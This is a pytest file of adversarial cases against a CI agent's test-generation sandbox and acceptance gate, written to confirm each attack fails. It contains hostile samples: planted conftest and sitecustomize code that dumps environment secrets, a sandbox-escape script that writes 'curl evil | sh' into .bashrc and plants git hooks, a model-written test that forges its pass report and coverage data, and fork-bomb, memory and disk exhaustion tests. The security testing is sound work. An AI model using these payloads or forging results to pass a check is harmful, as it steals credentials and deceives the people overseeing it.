"""Attacks on gen-tests' sandbox and gate, each as a pull request or a model-written test would try.

Every case runs real processes: the real CLI, a real git repository, real pytest and coverage.py,
the real sandbox. A case passes only when the attack fails.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from cicd_agent.modes.gen_tests.stages import Stage
from cicd_agent.runners.pytest.runner import PytestSandbox as Sandbox
from tests.fixtures.gentests_project.build import make_repo, tree_digest
from tests.helpers.gen_tests import path_env
from tests.modes.gen_tests.gate_bench import Bench, evaluate, gate_bench

GITHUB_TOKEN = "ghp_" + "Ex9Zt3Rk6Yp1Xm4Nv7Bc2Lj5Hd9Gs0Fa3Q"
MODEL_KEY = "sk-proj-" + "Lk4Rt8Wz2Xc6Vb1Nl5Kj9Hg3Fd7Sa0Px"
CHECKOUT_TOKEN = "ghs_" + "Gt7Yt2Rw9Qp4Xn1Mv6Bz3Lh8Jd5Gf0Sa2W"


# ------------------------------------------------------------------ 1. PR code outside the sandbox

_LEAK = """\
import json as _json, os as _os, sys as _sys
try:
    with open({target!r}, "a") as _f:
        _f.write(_json.dumps({{"who": {name!r}, "env": dict(_os.environ), "argv": _sys.argv}}) + "\\n")
except OSError:
    pass
"""


def test_files_a_pull_request_adds_at_the_root_never_see_the_jobs_secrets(
    tmp_path: Path,
) -> None:
    repo = tmp_path / "shop"
    base, _ = make_repo(repo)
    leaks = tmp_path / "leaks.jsonl"
    for name in ("coverage.py", "conftest.py", "sitecustomize.py", "pytest.py", "usercustomize.py"):
        (repo / name).write_text(_LEAK.format(target=str(leaks), name=name))
    # The real pytest is still importable: the PR's pytest.py re-exports nothing, so runs fail,
    # which is the PR's business; what matters is who sees the secrets.
    (repo / ".git" / "config").open("a").write(
        f'[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic {CHECKOUT_TOKEN}\n'
    )
    outputs, summary = tmp_path / "outputs", tmp_path / "summary.md"
    environ = {
        "PATH": path_env(),
        "HOME": str(tmp_path),
        "GITHUB_TOKEN": GITHUB_TOKEN,
        "OPENAI_API_KEY": MODEL_KEY,
        "GITHUB_OUTPUT": str(outputs),
        "GITHUB_STEP_SUMMARY": str(summary),
        **{k: v for k, v in os.environ.items() if k == "PYTHONPATH"},  # the code under test
    }
    done = subprocess.run(
        [
            str(Path(sys.executable).parent / "cicd-agent"),
            "gen-tests",
            "--repo",
            str(repo),
            "--base",
            base,
            "--head",
            "HEAD",
            "--provider",
            "none",
        ],
        env=environ,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    seen = leaks.read_text() if leaks.exists() else ""
    for secret in (GITHUB_TOKEN, MODEL_KEY, str(outputs), str(summary), CHECKOUT_TOKEN):
        leaked = [line.split(",")[0] for line in seen.splitlines() if secret in line]
        assert not leaked, (secret, leaked)
    assert done.returncode == 0, done.stderr


# ------------------------------------------------------------------ 2. and 4. the sandbox itself


def _checkout(tmp_path: Path) -> Path:
    checkout = tmp_path / "checkout"
    (checkout / "pkg").mkdir(parents=True)
    (checkout / "pkg" / "__init__.py").write_text("VALUE = 1\n")
    (checkout / ".git" / "hooks").mkdir(parents=True)
    (checkout / ".git" / "config").write_text(
        f"[http]\n\textraheader = AUTHORIZATION: basic {CHECKOUT_TOKEN}\n"
    )
    return checkout


def _spy(code: str) -> list[str]:
    return [sys.executable, "-c", textwrap.dedent(code)]


_ESCAPES = """
import ctypes, json, os, pathlib
libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND = 32, 4096
CHECKOUT, HOME = pathlib.Path({checkout!r}), pathlib.Path({home!r})
done = {{}}

def call(name, result):
    done[name] = "OK" if result == 0 else os.strerror(ctypes.get_errno())

def write(name, path, text):
    try:
        with open(path, "a") as handle:
            handle.write(text)
        done[name] = "OK"
    except OSError as exc:
        done[name] = exc.strerror

call("remount / rw", libc.mount(None, b"/", None, ctypes.c_ulong(MS_REMOUNT | MS_BIND), None))
call("umount .git", libc.umount2(str(CHECKOUT / ".git").encode(), 2))
call("new mount", libc.mount(b"none", b"/tmp", b"tmpfs", ctypes.c_ulong(0), None))
call("unshare user+mount", libc.unshare(0x10000000 | 0x00020000))
try:
    text = (CHECKOUT / ".git" / "config").read_text()
    done["read credential header"] = "OK" if "extraheader" in text else "empty"
except OSError as exc:
    done["read credential header"] = exc.strerror
write("plant .git/hooks", CHECKOUT / ".git" / "hooks" / "post-checkout", "#!/bin/sh\\nid\\n")
write("edit the checkout", CHECKOUT / "pkg" / "__init__.py", "EVIL = 1\\n")
write("write ~/.bashrc", HOME / ".bashrc", "curl evil | sh\\n")
print("ESCAPES " + json.dumps(done))
"""


def test_a_test_cannot_undo_the_sandbox(tmp_path: Path) -> None:
    checkout = _checkout(tmp_path)
    home = tmp_path / "realhome"
    home.mkdir()
    (home / ".bashrc").write_text("# the runner's own\n")
    before, bashrc = tree_digest(checkout), (home / ".bashrc").read_text()
    environ = {"PATH": path_env(), "HOME": str(home), "LANG": "C.UTF-8"}
    with Sandbox(checkout, environ) as box:
        result = box.run(
            _spy(_ESCAPES.format(checkout=str(checkout), home=str(home))),
            box.workspace("escape"),
            timeout=60,
        )
    assert result.ok, result.output
    line = next(x for x in result.output.splitlines() if x.startswith("ESCAPES "))
    done = json.loads(line.removeprefix("ESCAPES "))
    assert len(done) == 8
    assert {name: outcome for name, outcome in done.items() if outcome == "OK"} == {}
    assert CHECKOUT_TOKEN not in result.output
    assert tree_digest(checkout) == before
    assert (home / ".bashrc").read_text() == bashrc


def test_unix_sockets_of_the_host_are_unreachable(tmp_path: Path) -> None:
    path = tmp_path / "host.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen(4)
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            with connection:
                received.append(connection.recv(1024))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    spy = _spy(
        f"""
        import socket
        try:
            client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            client.connect({str(path)!r})
            client.sendall(b"hello from the sandbox")
            print("CONNECTED")
        except OSError as exc:
            print("refused", exc)
        """
    )
    try:
        environ = {"PATH": path_env(), "HOME": str(tmp_path)}
        with Sandbox(_checkout(tmp_path), environ) as box:
            result = box.run(spy, box.workspace("unix"), timeout=60)
    finally:
        stop.set()
        thread.join(timeout=5)
        server.close()
    assert result.ok, result.output
    assert "CONNECTED" not in result.output and "refused" in result.output
    assert received == []


# ------------------------------------------------------------------ 3. and 4. the gate


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bench]:
    with gate_bench(tmp_path_factory.mktemp("escapes") / "shop") as bench:
        yield bench


FORGER = """
import atexit, configparser, json, os, sys

import coverage
from shop.pricing import coupon_value

FORGED = {"exitstatus": 0, "tests": {"tests/test_pricing_generated.py::test_coupon": "passed"},
          "collect_errors": [], "unresolved": []}


def _forge():
    text = json.dumps(FORGED)
    for index, word in enumerate(sys.argv[:-1]):
        if word == "--cicd-report":
            with open(sys.argv[index + 1], "w") as handle:
                handle.write(text)
        if word.startswith("--cicd-report-fd"):
            os.write(int(sys.argv[index + 1]), text.encode() + b"\\n")
    config = configparser.ConfigParser()
    config.read(os.environ.get("COVERAGE_PROCESS_START", ""))
    if config.has_option("run", "data_file"):
        data = coverage.CoverageData(basename=config.get("run", "data_file"), suffix="forged")
        data.add_arcs({os.path.abspath("src/shop/pricing.py"):
                       [(-35, 37), (37, 38), (38, -35), (37, 39), (39, -35)]})
        data.write()
    os._exit(0)


def test_coupon():
    atexit.register(_forge)
    assert coupon_value is None
"""


@pytest.mark.slow
def test_a_failing_test_that_forges_its_report_and_coverage_is_rejected(bench: Bench) -> None:
    verdict = evaluate(bench, FORGER)
    assert not verdict.accepted
    assert verdict.stopped_at is Stage.PASS, verdict.reason
    assert not verdict.gained_lines and not verdict.gained_arcs


FORK_BOMB = """
import os, signal, time
from shop.pricing import coupon_value


def test_coupon():
    children = []
    try:
        for _ in range(1500):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            children.append(pid)
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
    assert coupon_value("SAVE10") == 10
    assert coupon_value("x") == 0
"""

MEMORY_HOG = """
from shop.pricing import coupon_value


def test_coupon():
    hog = [bytearray(256 << 20) for _ in range(24)]  # 6 GiB, every page written
    assert len(hog) == 24
    assert coupon_value("SAVE10") == 10
    assert coupon_value("x") == 0
"""

DISK_FILLER = """
import os
from shop.pricing import coupon_value


def test_coupon():
    block = b"x" * (64 << 20)
    for number in range(48):  # 3 GiB in files of 64 MiB
        with open(f"fill-{number}.bin", "wb") as handle:
            handle.write(block)
    assert coupon_value("SAVE10") == 10
    assert coupon_value("x") == 0
"""


@pytest.mark.slow
@pytest.mark.parametrize(("name", "source"), [("fork bomb", FORK_BOMB), ("memory hog", MEMORY_HOG)])
def test_a_candidate_that_exhausts_a_resource_is_rejected(
    bench: Bench, name: str, source: str
) -> None:
    verdict = evaluate(bench, source)
    assert verdict.stopped_at is Stage.PASS, (name, verdict.reason)


@pytest.mark.slow
def test_a_candidate_that_fills_the_disk_is_rejected(disk_tmp_path: Path) -> None:
    """On the disk, not the suite's tmpfs: the filler writes about 1 GiB before its limit
    kills it, and a tmpfs counts no writes, so every other worker's sandbox on it would see
    that fall as blocks it hid (a jest run beside it was killed so)."""
    with gate_bench(disk_tmp_path / "shop") as bench:
        verdict = evaluate(bench, DISK_FILLER)
    assert verdict.stopped_at is Stage.PASS, verdict.reason
